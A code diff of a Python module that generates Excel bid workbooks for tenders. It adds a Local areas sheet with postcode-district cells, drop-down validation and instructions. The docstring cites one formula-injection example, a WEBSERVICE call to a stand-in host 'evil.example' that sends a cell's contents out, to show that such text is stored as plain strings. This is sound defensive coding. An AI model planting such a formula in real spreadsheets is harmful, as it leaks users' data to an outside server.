@@ -2,10 +2,12 @@
 
 Sheets: `Instructions`; `Bid` (tender, bidder, submitted, price); `Quality` and `Social value`
 (one row per question or measure: code, title, unit, answer type, limits, guidance, evidence,
-how it is scored, then the Answer and Evidence documents input cells); a hidden `Lists` sheet
-holding choice lists. Sheets are protected (without a password: the protection keeps the layout
-intact, it is not security) and only input cells are unlocked. Input cells carry data
-validation: number ranges, yes/no and choice lists, character limits.
+how it is scored, then the Answer and Evidence documents input cells); `Local areas` when the
+tender selects `local only` measures (one row each: the postcode districts the results come from,
+or what counts within a named boundary); a hidden `Lists` sheet holding choice lists. Sheets
+are protected (without a password: the protection keeps the layout intact, it is not security)
+and only input cells are unlocked. Input cells carry data validation: number ranges, yes/no and
+choice lists, character limits.
 
 Every text from the spec is a string cell, never a formula or an error value: a title such as
 `=WEBSERVICE("https://evil.example/?"&B3)` is shown as written (with Excel's quote prefix), and
@@ -19,6 +21,7 @@ from __future__ import annotations
 import datetime
 import io
 import re
+import textwrap
 import zipfile
 from typing import Any
 
@@ -32,8 +35,11 @@ from svspec.bids.jsontext import number
 from svspec.bids.layout import (
     ANSWER_COLUMN,
     BID_SHEET,
+    DISTRICTS_COLUMN,
     EVIDENCE_COLUMN,
     HEADERS,
+    LOCAL_HEADERS,
+    LOCAL_SHEET,
     POINTS_COLUMN,
     POUNDS_COLUMN,
     SECTION_SHEETS,
@@ -123,6 +129,8 @@ def _validation(rule: AnswerRule, lists: object, list_row: list[int]) -> DataVal
 def _guidance(rule: AnswerRule) -> str:
     """The Guidance column: what the measure asks beyond its answer, then its guidance."""
     parts = [f"{label}: {text}" for label, text in asking(rule)]
+    if isinstance(rule.item, model.Measure) and rule.item.local_area:
+        parts.append(f"Type the districts your results come from on the {LOCAL_SHEET} sheet.")
     return "\n".join(parts + ([rule.guidance] if rule.guidance else []))
 
 
@@ -145,6 +153,7 @@ def build_workbook(tender: model.Tender) -> Workbook:
         "   Give 0 or No when you commit nothing: a blank answer is a missing answer.",
         "3. In the Evidence documents column, name the documents you send with the bid (one per line),",
         "   where the row says evidence is due with the bid.",
+        *_local_instructions(rules),
         "4. Do not rename, move or delete sheets, rows or columns: answers are read by position.",
         *([f"   All text answers together: at most {tender.narrative_limit:,} {tender.narrative_unit}."]
           if tender.narrative_limit is not None else []),
@@ -234,6 +243,7 @@ def build_workbook(tender: model.Tender) -> Workbook:
             sheet.column_dimensions[column_letter(i)].width = width
         _printable(sheet, repeat_header=True)
         sheet.protection.sheet = True
+    _local_sheet(wb, rules, lists, list_row)
     lists.sheet_state = "hidden"
     lists.protection.sheet = True
     wb.security = WorkbookProtection(lockStructure=True)
@@ -268,6 +278,97 @@ def _part_rows(sheet: Any, rule: AnswerRule, row: int) -> int:
         sheet.add_data_validation(validation)
         validation.add(f"{column_letter(ANSWER_COLUMN)}{row}")
     return row
+
+
+# ---- local areas (issue 9 item 12): where a `local only` measure's results may come from
+
+def _local_rules(rules: BidRules) -> list[AnswerRule]:
+    """The measures counted locally only, in the tender's order: each has a row on the Local areas sheet."""
+    return [r for r in rules.rules if isinstance(r.item, model.Measure)
+            and (r.item.local_only or r.item.local_area or r.item.local_boundary)]
+
+
+def _local_sheet(wb: Any, rules: BidRules, lists: Any, list_row: list[int]) -> None:
+    """The Local areas sheet: one row per local-only measure. A measure counted in postcode districts
+    (`local only in SE1, SE11`) gets an input cell for the districts its results come from, read back
+    as the bid's `local:`; a measure counted within a named boundary, or locally without a named area,
+    says what the supplier must do instead, with no cell to fill (YAML's `local:` takes none for it)."""
+    local = _local_rules(rules)
+    if not local:
+        return
+    sheet = wb.create_sheet(LOCAL_SHEET)
+    sheet.append(list(LOCAL_HEADERS))
+    for cell in sheet[1]:
+        cell.font = _HEADER_FONT
+        cell.alignment = Alignment(wrap_text=True, vertical="top")
+    sheet.freeze_panes = "C2"
+    for row, rule in enumerate(local, start=2):
+        sheet.append(_row([rule.code, rule.title, None, *_local_words(rule)]))
+        for column in range(1, len(LOCAL_HEADERS) + 1):
+            sheet.cell(row=row, column=column).alignment = Alignment(wrap_text=True, vertical="top")
+        area = rules.local_areas.get(rule.code)
+        if area:
+            _unlock(sheet.cell(row=row, column=DISTRICTS_COLUMN))
+            sheet.add_data_validation(_districts_validation(rule.code, area, lists, list_row, row))
+    for i, width in enumerate((10, 36, 30, 36, 60), start=1):
+        sheet.column_dimensions[column_letter(i)].width = width
+    _printable(sheet, repeat_header=True)
+    sheet.protection.sheet = True
+
+
+def _local_words(rule: AnswerRule) -> tuple[str, str]:
+    """The Local area and What to write columns of one local-only measure's row."""
+    item = rule.item
+    assert isinstance(item, model.Measure)
+    if item.local_area:
+        return (", ".join(item.local_area) + " postcode districts",
+                f"Optional. Type the postcode districts the results you count for {rule.code} come from, each "
+                f"written as in the Local area column, separated by semicolons ({'; '.join(item.local_area[:2])}). "
+                "Pick one from the drop-down or type several. Count no results from other districts.")
+    if item.local_boundary:
+        return (f"within {item.local_boundary}",
+                f"Nothing to type here. Count for {rule.code} only results within {item.local_boundary}; "
+                "your evidence should show where each result is.")
+    return ("local only (no area named)",
+            f"Nothing to type here. Count for {rule.code} only local results, as the tender's guidance "
+            "describes them.")
+
+
+def _districts_validation(code: str, area: tuple[str, ...], lists: Any, list_row: list[int],
+                          row: int) -> DataValidation:
+    """The drop-down of a measure's postcode districts (on the hidden Lists sheet).
+
+    A list validation holds one value, but a supplier may name several districts separated by
+    semicolons: a value off the list is met with an information message saying how to write it,
+    not refused, and svspec checks each district when the bid is validated."""
+    start = list_row[0]
+    for i, district in enumerate(area):
+        lists.cell(row=start + i, column=1, value=_text(district))
+    list_row[0] = start + len(area)
+    allowed = ", ".join(area)
+    validation = DataValidation(
+        type="list", formula1=f"Lists!$A${start}:$A${start + len(area) - 1}", allow_blank=True,
+        showErrorMessage=True, errorStyle="information", showInputMessage=True, promptTitle=code[:32],
+        prompt=f"One or more of {allowed}, separated by semicolons"[:250], errorTitle="Several districts?",
+        error=f"Write each district as listed, separated by semicolons: one or more of {allowed}"[:250])
+    validation.add(f"{column_letter(DISTRICTS_COLUMN)}{row}")
+    return validation
+
+
+def _local_instructions(rules: BidRules) -> list[str]:
+    """The Instructions sheet's lines on local areas, when the tender has local-only measures."""
+    local = _local_rules(rules)
+    if not local:
+        return []
+    codes = ", ".join(r.code for r in local)
+    line = f"Local areas: {codes} count{'s' if len(local) == 1 else ''} local results only. "
+    if rules.local_areas:
+        line += (f"On the {LOCAL_SHEET} sheet, type the postcode districts your results come from where there "
+                 "is a yellow cell (separated by semicolons); its What to write column says what counts for each.")
+    else:
+        line += f"The {LOCAL_SHEET} sheet says what counts for each; there is nothing to type there."
+    # Column A is 110 characters wide: longer lines would run off the printed page.
+    return textwrap.wrap(line, 105, initial_indent="   ", subsequent_indent="   ")
 
 
 _FORMATS = {WORDS_COLUMN: "0", POUNDS_COLUMN: '"£"#,##0.00', POINTS_COLUMN: "0.00"}
